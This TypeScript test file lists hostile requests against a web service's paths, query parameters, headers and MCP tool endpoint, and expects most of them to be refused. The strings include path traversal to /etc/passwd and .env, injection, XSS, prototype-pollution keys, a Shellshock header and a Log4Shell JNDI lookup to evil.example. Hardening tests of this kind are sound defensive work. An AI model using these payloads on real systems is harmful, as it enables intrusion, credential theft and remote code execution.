import {
  either,
  get,
  page,
  post,
  query,
  refused,
  request,
  rightAnswer,
  type HostileCase,
  type Outcome,
} from './hostileCase.js';

const encoded = (value: unknown): string =>
  encodeURIComponent(typeof value === 'string' ? value : JSON.stringify(value));

/** Ways out of folders, and to what is not there. */
const paths: readonly (readonly [string, Outcome])[] = [
  ['/../../../etc/passwd', refused(404)],
  ['/docs/../../package.json', refused()],
  ['/docs/%2e%2e/%2e%2e/package.json', refused()],
  ['/docs/..%2f..%2fpackage.json', refused()],
  ['/docs/....//....//package.json', refused()],
  ['/docs/%00', refused()],
  ['/docs/%c0%ae%c0%ae/', refused(400)],
  ['/docs/..%5c..%5cpackage.json', refused()],
  ['/explorer/%2e%2e%2findex.html', refused()],
  ['/explorer/%252e%252e/index.html', refused()],
  ['/export/..%2f..%2fpackage.json', refused(404)],
  ['/export/grants.csv%00.html', refused(404)],
  ['/export/grants.csv/', refused(404)],
  ['/export/__proto__', refused(404)],
  ['/export/constructor', refused(404)],
  ["/export/grants.csv'", refused(404)],
  ['//evil.example/', refused(404)],
  ['/\\evil.example', refused(404)],
  ['/graphql/../live', refused(404)],
  ['/GRAPHQL', refused(404)],
  ['/graphql%00', refused(404)],
  ['/graphql;a=b', refused(404)],
  ['/graphql/', refused(404)],
  ['/.git/config', refused(404)],
  ['/.env', refused(404)],
  ['/package.json', refused(404)],
  ['/%E0%A4%A', refused(400)],
  ['/%', refused(400)],
  ['/entity/%3Cscript%3Ealert(1)%3C%2Fscript%3E', page],
  ['/entity/..%2f..%2fetc%2fpasswd', page],
  ['/statement/%00', page],
  ['/playground/index.html', refused(404)],
];

/** What parameters of files, of reconciliation and of a query in an address are given. */
const parameters: readonly (readonly [string, Outcome])[] = [
  ['/export/grants.csv?filter=5', refused(400)],
  ['/export/grants.csv?filter=null', refused(400)],
  ['/export/grants.csv?filter=%7B', refused(400)],
  [`/export/grants.csv?filter=${encoded({ $where: '1' })}`, refused(400)],
  [`/export/grants.csv?filter=${encoded('{"__proto__":{"flagged":true}}')}`, refused(400)],
  [`/export/grants.csv?filter=${encoded({ constructor: {} })}`, refused(400)],
  [`/export/grants.csv?filter=${'['.repeat(5_000)}${']'.repeat(5_000)}`, refused(400)],
  ['/export/grants.csv?filter=%7B%7D&filter=%7B%7D', refused(400)],
  ['/export/grants.csv?asOf=yesterday', refused(400)],
  [`/export/grants.csv?asOf=${encoded("2026-01-01T00:00:00Z' //")}`, refused(400)],
  ['/export/grants.csv?__proto__=1', refused(400)],
  ['/reconcile?queries=5', refused(400)],
  ['/reconcile?queries=%7B', refused(400)],
  [`/reconcile?queries=${encoded({ a: { query: "' OR 1=1 //" } })}`, either({ a: { result: [] } })],
  [`/reconcile?queries=${encoded('{"__proto__":{"query":"zqx"}}')}`, either()],
  [`/reconcile?queries=${encoded({ a: { query: 'x', limit: 2 ** 53 } })}`, either()],
  [`/reconcile?queries=${encoded({ a: { query: 'x', limit: -1 } })}`, refused(400)],
  [`/reconcile?queries=${encoded({ a: { query: 'x', type: 'constructor' } })}`, refused(400)],
  [
    `/reconcile?queries=${encoded({ a: { query: 'x', properties: [{ pid: '__proto__', v: 'a' }] } })}`,
    refused(400),
  ],
  [`/reconcile?extend=${encoded({ ids: ["' OR true //"], properties: [{ id: 'nameZh' }] })}`, either()],
  [
    `/reconcile?extend=${encoded({ ids: ['town/taiping'], properties: [{ id: 'constructor' }] })}`,
    refused(400),
  ],
  ['/reconcile/suggest/entity?prefix=*:*&cursor=-1', refused(400)],
  ['/reconcile/suggest/entity?prefix=a&cursor=99999999999', refused(400)],
  [`/reconcile/suggest/entity?prefix=${encoded('" OR name:*~')}`, either()],
  [`/reconcile/suggest/entity?prefix=${'x'.repeat(5_000)}`, either()],
  ['/reconcile/suggest/entity?prefix=a&prefix=b', refused(400)],
  [`/reconcile/preview?id=${encoded('<script>alert(1)</script>')}`, { kind: 'PAGE' }],
  ['/reconcile/preview', refused(400)],
  ['/reconcile/nothing', refused(404)],
  [`/graphql?query=${encoded(query)}&variables=5`, refused(400)],
  [`/graphql?query=${encoded(query)}&variables=${encoded('{"__proto__":{"a":1}}')}`, either(rightAnswer)],
  [`/graphql?query=${encoded(query)}&extensions=null`, either(rightAnswer)],
  [`/graphql?query=${encoded(query)}&query=${encoded(query)}`, refused(400)],
  [`/graphql?query[]=${encoded(query)}`, refused(400)],
  [`/graphql?query=${encoded('mutation { a }')}`, refused(405)],
  ['/graphql', refused(400)],
];

/** What headers are given; the answer is that of the query. */
const headers: readonly (readonly [string, Readonly<Record<string, string>>, Outcome?])[] = [
  ['another host', { host: 'evil.example' }],
  ['a host that is no name', { host: '"><script>' }, refused(400)],
  ['an address said by the client', { 'x-forwarded-for': "127.0.0.1' OR true", 'x-real-ip': '127.0.0.1' }],
  ['another method said beside', { 'x-http-method-override': 'DELETE' }],
  ['another path said beside', { 'x-original-url': '/metrics', 'x-rewrite-url': '/metrics' }],
  ['a trace that is none', { traceparent: '00-zqx-zqx-zqx', tracestate: 'a=b,'.repeat(500) }],
  ['a cookie named __proto__', { cookie: '__proto__=1; constructor=2' }],
  [
    'a lookup of Java',
    { 'user-agent': '${jndi:ldap://evil.example/a}', referer: '${jndi:ldap://evil.example/a}' },
  ],
  ['a shell', { 'user-agent': '() { :; }; echo vulnerable' }],
  ['a language of 5,000 letters', { 'accept-language': 'zqx,'.repeat(1_250) }],
  ['ranges', { range: `bytes=${'0-1,'.repeat(500)}` }],
  ['an expectation', { expect: 'zqx' }, refused()],
  ['letters of Latin 1', { 'x-zqx': 'ÿþ' }],
  ['a statement asked for in LOCKED', { 'graphql-explain': 'true' }, refused(400)],
  ['a type that we do not have', { accept: 'image/png' }, { kind: 'PAGE' }],
  ['a type that is none', { accept: ';;;,,,q=' }, { kind: 'PAGE' }],
  ['packing of no use', { 'accept-encoding': 'identity;q=0, *;q=0' }, either()],
];

const tool = (name: string, input: unknown): object => ({
  jsonrpc: '2.0',
  id: 1,
  method: 'tools/call',
  params: { name, arguments: input },
});

/** What the tools for models are given; all that they answer is JSON-RPC. */
const messages: readonly (readonly [string, unknown])[] = [
  ['a tool that there is not', tool('drop', {})],
  ['a tool named __proto__', tool('__proto__', {})],
  ['input of another type', tool('search', { text: 5 })],
  ['input that is a list', tool('search', [])],
  ['a text that looks like Cypher', tool('search', { text: "' OR true //" })],
  ['a query that changes', tool('graphql', { query: 'mutation { a }' })],
  [
    'variables named __proto__',
    JSON.parse(
      '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"graphql","arguments":{"query":"{ towns { totalCount } }","variables":{"__proto__":{"b":1}}}}}',
    ),
  ],
  ['a method that there is not', { jsonrpc: '2.0', id: 1, method: 'zqx/zqx' }],
  ['no method', { jsonrpc: '2.0', id: 1 }],
  ['another version', { jsonrpc: '1.0', id: 1, method: 'tools/list' }],
  ['an id that is an object', { jsonrpc: '2.0', id: {}, method: 'tools/list' }],
  ['a batch', [tool('search', { text: 'a' }), tool('search', { text: 'b' })]],
  ['a number', 5],
  ['nothing', null],
];

export const surfaces: readonly HostileCase[] = [
  ...paths.map(([path, outcome]) => ({ title: `path: ${path}`, sent: get(path), outcome })),
  ...parameters.map(([path, outcome]) => ({
    title: `parameters: ${path.slice(0, 70)}`,
    sent: get(path),
    outcome,
  })),
  ...headers.map(([title, given, outcome = { kind: 'ANSWERED', answer: rightAnswer }]) => ({
    title: `headers: ${title}`,
    sent: post({ query }, given),
    outcome,
  })),
  ...messages.map(([title, message]) => ({
    title: `tools: ${title}`,
    sent: request(
      'POST',
      '/mcp',
      { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
      JSON.stringify(message),
    ),
    outcome: page,
  })),
];
